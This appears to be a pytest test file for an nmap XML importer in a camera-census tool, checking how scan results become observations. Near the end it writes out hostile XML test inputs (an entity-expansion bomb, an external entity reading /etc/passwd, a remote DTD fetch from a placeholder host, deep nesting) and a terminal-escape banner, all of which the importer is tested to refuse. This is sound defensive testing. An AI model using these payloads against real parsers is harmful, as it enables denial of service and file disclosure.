"""nmap XML: what each part becomes, and how damage ends."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from camcensus.collect.importer import Item
from camcensus.collect.importers.nmap.importer import IMPORTER, read
from camcensus.collect.importers.nmap.probes import read_probe_answers, unescaped
from camcensus.model.errors import InputError
from camcensus.model.observation import Note, Observation, Rejected

SCANS = Path(__file__).parents[2] / "fixtures" / "scans" / "nmap"
CAMERAS = (SCANS / "three-cameras.xml").read_bytes()


def read_bytes(data: bytes) -> list[Item]:
    return list(read(io.BytesIO(data), "scan.xml"))


def seen(data: bytes = CAMERAS) -> set[tuple[str | None, int | None, str, str | None, str]]:
    return {(o.host, o.port, o.kind, o.field, o.raw) for o in read_bytes(data) if isinstance(o, Observation)}


@pytest.mark.parametrize(
    "expected",
    [
        ("192.0.2.7", None, "mac", "oui", "44:19:b6:00:00:01"),
        ("192.0.2.7", 80, "http", "http.title", "<title>index</title>"),
        ("192.0.2.7", 80, "http", "http.server", "Server: webserver"),
        (
            "192.0.2.7",
            80,
            "http",
            "http.www-authenticate",
            'WWW-Authenticate: Digest realm="IP Camera(00000)", qop="auth"',
        ),
        ("192.0.2.7", 80, "http", "http.favicon_md5", "favicon-md5: 89b932fcc47cf4ca3faadb0cfdef89cf"),
        (
            "192.0.2.7",
            80,
            "banner",
            "nmap.service",
            "Hikvision Network Video Recorder http admin; devicetype=webcam; cpe:/h:hikvision",
        ),
        ("192.0.2.7", 443, "tls", "tls.subject", "CN=Example\\, Camera,O=Example,C=CN"),
        ("192.0.2.7", 443, "tls", "tls.issuer", "CN=Example CA"),
        ("192.0.2.7", 554, "rtsp", "rtsp.public", "Public: OPTIONS, DESCRIBE, PLAY, PAUSE, SETUP, TEARDOWN"),
        ("192.0.2.7", 161, "snmp", "snmp.sysdescr", "Linux camera 3.0.8"),
        ("192.0.2.7", None, "banner", "nmap.os", "Linux 3.2 - 4.9 (accuracy 100 %)"),
        (
            "192.0.2.7",
            None,
            "banner",
            "nmap.ports",
            "80/tcp open, 443/tcp open, 554/tcp open, 8000/tcp filtered, 161/udp open|filtered",
        ),
        (
            "192.0.2.8",
            554,
            "rtsp",
            None,
            'RTSP/1.0 401 Unauthorized\r\nCSeq: 1\r\nWWW-Authenticate: Digest realm="Login to 000000000000000", nonce="0"\r\n\r\n',
        ),
        ("192.0.2.8", 21, "ftp", None, "220 camera FTP server ready\r\n"),
        ("2001:db8::9", None, "banner", "nmap.ports", "no port seen open"),
        ("192.0.2.30", None, "upnp", "upnp.manufacturer", "Example Maker"),
        ("192.0.2.30", None, "ssdp", "ssdp.server", "Server: Linux/3.10 UPnP/1.0 camera/1.0"),
    ],
    ids=lambda value: f"{value[0]} {value[2]} {value[3]}",
)
def test_a_part_of_the_scan_becomes(expected: tuple[str, int, str, str, str]) -> None:
    assert expected in seen()


def test_the_same_answer_to_two_probes_is_seen_once_and_its_layout_not_at_all() -> None:
    answers = [raw for host, port, _, field, raw in seen() if (host, port, field) == ("192.0.2.8", 554, None)]
    assert sorted(answer.split("\r\n")[0] for answer in answers) == [
        "RTSP/1.0 400 Bad Request",
        "RTSP/1.0 401 Unauthorized",
    ]


def test_observations_of_one_host_share_record_time_and_provenance() -> None:
    of_host = [item for item in read_bytes(CAMERAS) if isinstance(item, Observation) and item.host == "192.0.2.7"]
    assert {item.record for item in of_host} == {"scan.xml host 192.0.2.7"}
    assert {item.mac for item in of_host} == {"44:19:b6:00:00:01"}
    assert {item.observed_at for item in of_host} == {"2026-10-02T09:01:40Z"}
    assert of_host[0].provenance["hostname"] == "cam-7.example.org"
    assert of_host[0].provenance["scanner"] == "nmap 7.93"
    assert "host 192.0.2.7 port 80/tcp" in {item.origin.place for item in of_host}


def test_a_host_that_is_down_gives_nothing_and_is_counted() -> None:
    assert not [entry for entry in seen() if entry[0] == "192.0.2.10"]
    notes = [item.text for item in read_bytes(CAMERAS) if isinstance(item, Note)]
    assert "nmap 7.93: 3 hosts up, 1 down or silent" in notes


def test_a_host_without_an_address_is_refused_and_counted() -> None:
    data = CAMERAS.replace(b'<address addr="2001:db8::9" addrtype="ipv6"/>', b"")
    refused = [item for item in read_bytes(data) if isinstance(item, Rejected)]
    assert [(item.origin.place, item.problem) for item in refused] == [("host 3", "a host without an address")]


def test_scripts_that_nobody_reads_are_named_with_their_count() -> None:
    notes = [item.text for item in read_bytes(CAMERAS) if isinstance(item, Note)]
    assert "results of scripts that are not read: broadcast-avahi-dos (1), http-enum (1)" in notes


def test_masscan_banners_are_read() -> None:
    data = (SCANS / "masscan-banners.xml").read_bytes()
    assert ("192.0.2.11", 80, "http", None, "HTTP/1.1 401 Unauthorized\r\nServer: App-webs/\r\n\r\n") in seen(data)


@pytest.mark.parametrize("name", ["text-output.nmap", "grepable.gnmap"])
def test_text_forms_are_refused_with_the_way_out(name: str) -> None:
    data = (SCANS / name).read_bytes()
    assert IMPORTER.recognises(data, name)
    with pytest.raises(InputError, match="-oX"):
        read_bytes(data)


def test_an_interrupted_scan_gives_the_hosts_before_the_damage() -> None:
    cut = CAMERAS.index(b'<address addr="2001:db8::9"')
    stream = read(io.BytesIO(CAMERAS[:cut]), "scan.xml")
    items: list[Item] = []
    with pytest.raises(InputError, match="after 2 hosts") as caught:
        items.extend(stream)  # keeps what came before the error
    assert {item.host for item in items if isinstance(item, Observation)} == {"192.0.2.30", "192.0.2.7", "192.0.2.8"}
    assert caught.value.source == "scan.xml"
    assert caught.value.place.startswith("line ")


BOMB = b'<!DOCTYPE nmaprun [<!ENTITY a "aaaaaaaaaa">%s]>' % b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
)
OUTSIDE = b'<!DOCTYPE nmaprun [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
PARAMETER = b'<!DOCTYPE nmaprun [<!ENTITY % x SYSTEM "http://192.0.2.99/x.dtd"> %x;]>'


@pytest.mark.parametrize(
    ("declared", "used"),
    [(BOMB, b"&j;"), (OUTSIDE, b"&secret;"), (PARAMETER, b"x")],
    ids=["a bomb", "an outside file", "an outside document type"],
)
@pytest.mark.parametrize("place", ["attribute", "text"])
def test_entities_are_refused_and_never_resolved(declared: bytes, used: bytes, place: str) -> None:
    value = (b'addr="%s"' % used, b"") if place == "attribute" else (b'addr="192.0.2.1"', used)
    data = b'<?xml version="1.0"?>%s<nmaprun><host><address %s addrtype="ipv4"/><x>%s</x></host></nmaprun>' % (
        declared,
        *value,
    )
    assert IMPORTER.recognises(data, "x")
    with pytest.raises(InputError):
        read_bytes(data)


def test_a_document_type_that_names_nmaps_own_file_is_borne() -> None:
    public = (
        b'<!DOCTYPE nmaprun PUBLIC "-//IDN nmap.org//DTD Nmap XML 1.04//EN" "https://svn.nmap.org/nmap/docs/nmap.dtd">'
    )
    assert seen(CAMERAS.replace(b"<!DOCTYPE nmaprun>", public)) == seen()


@pytest.mark.parametrize(
    "inside",
    [b"<a>" * 200_000, b"<host>" * 200_000, b"<host>" + b"<ports>" * 300],
    ids=["200,000 levels", "200,000 hosts in each other", "300 levels in a host"],
)
def test_deep_nesting_is_refused(inside: bytes) -> None:
    with pytest.raises(InputError, match="damaged"):
        read_bytes(b'<?xml version="1.0"?><nmaprun>' + inside)


def test_terminal_escapes_in_a_banner_are_kept_as_text_for_the_edge_to_escape() -> None:
    data = CAMERAS.replace(b"220 camera FTP server ready", rb"220 \x1B]0;owned\x07\x00")
    raws = [raw for _, port, _, _, raw in seen(data) if port == 21 and raw.startswith("220")]
    assert raws == ["220 \x1b]0;owned\x07\ufffd\r\n"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (r"HTTP/1\.1\x20401\r\n", "HTTP/1.1 401\r\n"),
        (r"a\\x20b\.", r"a\x20b."),
        (r"\0\xff\"", '\x00\xff"'),
        ("ends in \\", "ends in \\"),
        (r"\xZZ", "xZZ"),
        ("plain", "plain"),
    ],
)
def test_escapes_of_a_service_fingerprint(text: str, expected: str) -> None:
    assert unescaped(text) == expected


def test_a_wrapped_fingerprint_reads_as_one_line() -> None:
    text = 'SF-Port80-TCP:V=7.93%r(GetRequest,10,"HTTP/1\\.1\\x2\nSF:0200\\x20OK\\r\\n")%r(Help,2,"\\r\\n");'
    assert list(read_probe_answers(text)) == [("GetRequest", "HTTP/1.1 200 OK\r\n")]
